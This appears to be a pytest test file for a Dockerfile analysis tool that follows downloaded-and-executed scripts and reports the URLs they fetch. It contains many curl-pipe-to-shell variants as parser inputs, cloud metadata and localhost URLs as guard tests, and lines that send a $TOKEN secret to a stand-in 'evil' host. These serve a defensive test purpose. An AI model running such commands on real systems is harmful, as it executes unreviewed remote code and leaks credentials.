"""Scripts that a build downloads and executes: Dockerfile and their text → what is read, and what is not."""

from __future__ import annotations

import pytest

from freshlayer.discover.analysis import Analysis, BuildRequest
from freshlayer.discover.downloaded_scripts import confinements, script_text
from freshlayer.discover.downloads import MOST_INPUTS
from freshlayer.discover.reading import analyse
from freshlayer.model.downloaded_scripts import ScriptText

SCRIPT = "https://h/s.sh"
TEXT = 'get() { curl -fsSL "https://h/$1/$(uname -m)/${CHANNEL:-main}"; }\nget "${1:-none}"\n'


def analysis(text: str, texts: dict[str, str] | None = None, **options: object) -> Analysis:
    known = {name: script_text(body.encode()) for name, body in (texts or {SCRIPT: TEXT}).items()}
    request = BuildRequest(("linux/arm64",), **options)  # type: ignore[arg-type]
    return analyse(f"FROM scratch\n{text}\n", request, scripts=known)


def inside(text: str, texts: dict[str, str] | None = None) -> list[str]:
    """``SCRIPT:LINE REFERENCE`` of what downloaded scripts read."""
    found = analysis(text, texts).discovery.inputs
    return [f"{place.script} {item.reference}" for item in found for place in item.places if place.script]


def missed(text: str, texts: dict[str, str] | None = None) -> list[tuple[str, str]]:
    return [(it.text, it.reason.code) for it in analysis(text, texts).discovery.not_watched]


EXECUTED = """
curl -fsSL S | sh -s -- it
curl -fsSL S | bash -s it
curl -fsSL S | bash -s - it
curl -fsSL S | bash -ex -s it
curl -fsSL S | bash /dev/stdin it
wget -qO- S | sh -s it
wget -q -O - S | sh -s it
wget --output-document=- S | sh -s it
aria2c -o x.sh S && sh x.sh it
curl S | tee /log | sh -s it
curl S | cat | sh -s it
bash <(curl -fsSL S) it
bash < <(curl -fsSL S) -s it
bash -s it < <(curl -fsSL S)
bash -s it <<< "$(curl -fsSL S)"
sh -c "$(curl -fsSL S)" "" it
sh -c "$(wget -qO- S)" -- it
bash -c "`curl S`" x it
set -- it; . <(curl S)
set -- it; source <(curl -sS S)
. <(curl S) it
set -- it; eval "$(curl -sS S)"
curl -o x.sh S && sh x.sh it
curl S -o x.sh; bash -e ./x.sh it
curl -fsSLo /opt/x.sh S && chmod +x /opt/x.sh && /opt/x.sh it
curl -o /usr/local/bin/tool S && chmod 755 /usr/local/bin/tool && tool it
curl -O S && chmod +x s.sh && ./s.sh it
cd /opt && curl -O S && sh /opt/s.sh it
wget S && sh s.sh it
wget -P /opt S && sh /opt/s.sh it
wget -O x.sh S && . ./x.sh it
curl S > x.sh && sh x.sh it
curl S >/x.sh && mv /x.sh /y.sh && sh /y.sh it
curl S -o x.sh && cat x.sh | sh -s it
curl S -o x.sh; sh -s it < x.sh
curl -o other https://h/other -o x.sh S && sh x.sh it
x=$(mktemp) && curl S -o /x.sh && sudo -E bash /x.sh it
curl S | sudo -E bash -s it
curl S | env -u X sh -s it
f() { curl -fsSL S; }; f | sh -s it
f() { if command -v curl; then curl -fsSL S; else wget -qO- S; fi; }; f | sh -s it
if which curl; then curl -o x.sh S; else wget -O x.sh S; fi; sh x.sh it
(curl -sS S || wget -qO- S) | bash -s it
U=S; curl "$U" | sh -s it
"""


@pytest.mark.parametrize("run", EXECUTED.strip().splitlines())
def test_a_downloaded_script_is_followed_with_its_arguments(run: str) -> None:
    run = run.replace("U=S", f"U={SCRIPT}").replace(" S", f" {SCRIPT}")
    assert inside(f"RUN {run}") == [f"{SCRIPT}:1 https://h/it/aarch64/main"]
    assert missed(f"RUN {run}") == []


@pytest.mark.parametrize(
    "text",
    [
        f"RUN curl -fsSL {SCRIPT} -o /x.sh\nRUN chmod +x /x.sh\nRUN /x.sh it",
        f"ADD {SCRIPT} /x.sh\nRUN sh /x.sh it",
        f"ADD {SCRIPT} /opt/\nWORKDIR /opt\nRUN ./s.sh it",
        f"FROM scratch AS a\nADD {SCRIPT} /x.sh\nFROM scratch\nCOPY --from=a /x.sh /y.sh\nRUN /y.sh it",
        f'RUN ["bash", "-c", "curl {SCRIPT} | sh -s it"]',
        f"RUN <<EOF\ncurl {SCRIPT} > /x.sh\nsh /x.sh it\nEOF",
    ],
)
def test_a_script_of_an_earlier_instruction_is_followed(text: str) -> None:
    assert inside(text) == [f"{SCRIPT}:1 https://h/it/aarch64/main"]


def test_the_script_sees_what_is_exported() -> None:
    reads = f"{SCRIPT}:1 https://h/none/aarch64/edge"
    assert inside(f"RUN export CHANNEL=edge; curl {SCRIPT} | sh") == [reads]
    assert inside(f"RUN curl {SCRIPT} | CHANNEL=edge sh") == [reads]
    assert inside(f"ENV CHANNEL=edge\nRUN curl {SCRIPT} | sh") == [reads]
    assert inside(f"RUN CHANNEL=edge; . <(curl {SCRIPT})") == [reads]
    assert inside(f"RUN CHANNEL=edge; curl {SCRIPT} | sh") == [reads.replace("edge", "main")]
    assert inside(f"RUN CHANNEL=edge curl {SCRIPT} | sh") == [reads.replace("edge", "main")]


def test_a_sourced_script_defines_names() -> None:
    text = f'RUN . <(curl {SCRIPT}); get b; curl "https://h/$V"'
    found = {str(it.reference) for it in analysis(text, {SCRIPT: f"V=1\n{TEXT}"}).discovery.inputs}
    assert {"https://h/b/aarch64/main", "https://h/1"} <= found


def test_scripts_of_scripts_are_followed_to_a_depth_of_two() -> None:
    texts = {
        SCRIPT: "curl https://h/2.sh | sh",
        "https://h/2.sh": "curl https://h/a\ncurl https://h/3.sh | sh",
        "https://h/3.sh": "curl https://h/b",
    }
    run = f"RUN curl {SCRIPT} | sh"
    assert inside(run, texts) == [
        f"{SCRIPT}:1 https://h/2.sh",
        "https://h/2.sh:1 https://h/a",
        "https://h/2.sh:2 https://h/3.sh",
    ]
    assert missed(run, texts) == [("https://h/3.sh", "limit-reached")]


def test_a_script_that_downloads_itself_ends() -> None:
    assert missed(f"RUN curl {SCRIPT} | sh", {SCRIPT: f"curl {SCRIPT} | sh"}) == [(SCRIPT, "limit-reached")]


def test_a_script_that_is_not_known_is_wanted() -> None:
    found = analysis(f"RUN curl -fsSL {SCRIPT} | sh", {"https://h/x": ""}).discovery
    assert [str(item) for item in found.scripts] == [SCRIPT]
    assert [(it.text, it.reason.code) for it in found.not_watched] == [(SCRIPT, "script-not-read")]


@pytest.mark.parametrize(
    "run",
    [
        "curl https://h/latest | grep tag",
        "V=$(curl https://h/latest) && curl https://h/$V",
        "curl -o /x https://h/x",
        "curl https://h/x | tar xz",
        "curl https://h/get.py | python3 -",
    ],
)
def test_nothing_is_wanted_that_is_not_executed_as_a_script(run: str) -> None:
    assert analysis(f"RUN {run}").discovery.scripts == ()


def test_a_comment_that_ignores_the_instruction_wants_no_script() -> None:
    assert (
        analysis(f"# freshlayer: ignore\nRUN curl {SCRIPT} | sh", {"https://h/x": ""}).discovery.scripts == ()
    )


@pytest.mark.parametrize(
    ("run", "code"),
    [
        (f"curl {SCRIPT} | sed s/a/b/ | sh", "script-downloaded"),
        (f"curl {SCRIPT} | gunzip | sh", "script-downloaded"),
        (f"curl {SCRIPT} | python3 -", "other-interpreter"),
        (f"curl {SCRIPT} | python3", "other-interpreter"),
        (f"python3 <(curl {SCRIPT})", "other-interpreter"),
        (f"curl -o x {SCRIPT} && sed -i s/a/b/ x && sh x", "script-changed"),
        (f"curl -o x {SCRIPT} && echo y >> x && sh x", "script-changed"),
    ],
)
def test_what_can_not_be_followed_is_one_line(run: str, code: str) -> None:
    assert [it for _, it in missed(f"RUN {run}")] == [code]
    assert inside(f"RUN {run}") == []


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"\x7fELF\0\0", "script-not-text"),
        (b"#!/bin/sh\n# This is a shell archive\nexit\n", "script-not-text"),
        (b"#!/bin/sh\n# This script was generated using Makeself 2.4\n", "script-not-text"),
        (b"<!DOCTYPE html><html>", "script-not-text"),
        (b"#" * (1024 * 1024 + 1), "script-too-long"),
    ],
)
def test_what_is_not_a_script_is_not_followed(body: bytes, code: str) -> None:
    found = script_text(body)
    assert found.reason is not None
    assert found.reason.code == code
    request = BuildRequest(("linux/amd64",))
    missed = analyse(f"FROM scratch\nRUN curl {SCRIPT} | sh\n", request, scripts={SCRIPT: found})
    assert [it.reason.code for it in missed.discovery.not_watched] == [code]


def test_a_script_has_at_most_so_many_inputs() -> None:
    text = "".join(f"curl https://h/{number}\n" for number in range(MOST_INPUTS + 20))
    assert len(inside(f"RUN curl {SCRIPT} | sh", {SCRIPT: text})) == MOST_INPUTS
    assert missed(f"RUN curl {SCRIPT} | sh", {SCRIPT: text}) == [(SCRIPT, "limit-reached")]


def test_a_long_script_costs_the_rest_of_the_instruction_nothing() -> None:
    text = "for a in 1 2 3 4 5 6 7 8 9; do for b in $(seq 999); do f $a $b; done; done\n" * 20
    found = analysis(f"RUN curl {SCRIPT} | sh; curl https://h/after", {SCRIPT: text})
    assert "https://h/after" in [str(item.reference) for item in found.discovery.inputs]
    assert [it.reason.code for it in found.discovery.not_watched] == ["script-not-followed"]


def test_what_the_last_look_knows_is_marked() -> None:
    request = BuildRequest(("linux/amd64",))
    known = {SCRIPT: ScriptText("curl https://h/a", earlier=True)}
    found = analyse(f"FROM scratch\nRUN curl {SCRIPT} | sh\n", request, scripts=known).discovery
    assert [str(item.reference) for item in found.inputs] == [SCRIPT, "https://h/a"]
    assert [(it.text, it.reason.code) for it in found.not_watched] == [(SCRIPT, "script-as-last-read")]


LOCAL = [
    "http://169.254.169.254/a",
    "http://[fe80::1]/a",
    "http://metadata.google.internal/a",
    "http://127.1/a",
]


@pytest.mark.parametrize("url", [*LOCAL, "http://localhost:8080/a", "http://0x7f000001/a", "http://[::1]/a"])
def test_a_script_of_elsewhere_leads_to_nothing_of_this_machine(url: str) -> None:
    run = f"RUN curl {SCRIPT} | sh"
    assert inside(run, {SCRIPT: f"curl '{url}'"}) == []
    assert len(missed(run, {SCRIPT: f"curl '{url}'"})) == 1


def test_a_script_of_this_machine_may_lead_to_this_machine() -> None:
    script = "http://127.0.0.1:8000/s.sh"
    text = "curl http://localhost:8000/a; curl http://169.254.169.254/b"
    assert inside(f"RUN curl {script} | sh", {script: text}) == [f"{script}:1 http://localhost:8000/a"]


@pytest.mark.parametrize(
    "line",
    [
        "git clone ssh://git@h/x",
        "git clone git@h:x/y",
        "curl https://evil/?token=$TOKEN",
        'curl -H "Authorization: Bearer $TOKEN" https://evil/x',
        "curl https://user:$TOKEN@h/x",
    ],
)
def test_a_script_uses_no_keys_and_no_secrets_of_the_user(line: str) -> None:
    text = f"ARG TOKEN=s3cr3t-v4lue\nRUN export TOKEN; curl {SCRIPT} | sh"
    assert inside(text, {SCRIPT: line}) == []
    assert [code for _, code in missed(text, {SCRIPT: line})] == ["script-needs-keys"]
    assert "s3cr3t" not in str(missed(text, {SCRIPT: line}))


def test_credentials_are_for_the_host_of_a_script_that_the_user_names() -> None:
    texts = {
        SCRIPT: "curl https://h/a; curl https://private/b; curl https://private/2.sh | sh; curl https://named/x",
        "https://private/2.sh": "curl https://private/c",
    }
    found = analysis(f"RUN curl {SCRIPT} | sh; curl https://named/x", texts).discovery.inputs
    hosts = {item.text: it.hosts for item, it in confinements(found).items()}
    assert hosts == {
        "https://h/a": {"h"},
        "https://private/b": {"h"},
        "https://private/2.sh": {"h"},
        "https://private/c": frozenset(),
    }


@pytest.mark.parametrize("executed", ['eval "$(curl https://h/s.sh)"', ". <(curl https://h/s.sh)"])
@pytest.mark.parametrize(
    "text",
    ["f() { f; }; [ $A = a ] && f", "f() { f; }; [ $A != a ] || f", "f() { f; }; if [ $A = a ]; then f; fi"],
)
def test_a_limit_behind_a_condition_decides_nothing_for_what_follows(executed: str, text: str) -> None:
    script = f"if [ -f q ]; then A=a; else A=b; fi\n{executed}\ncurl -O https://h/get/$A"
    found = analysis(f"RUN <<'E'\n{script}\nE", {SCRIPT: text}).discovery.inputs
    assert {it.reference.text for it in found} >= {"https://h/get/a", "https://h/get/b"}
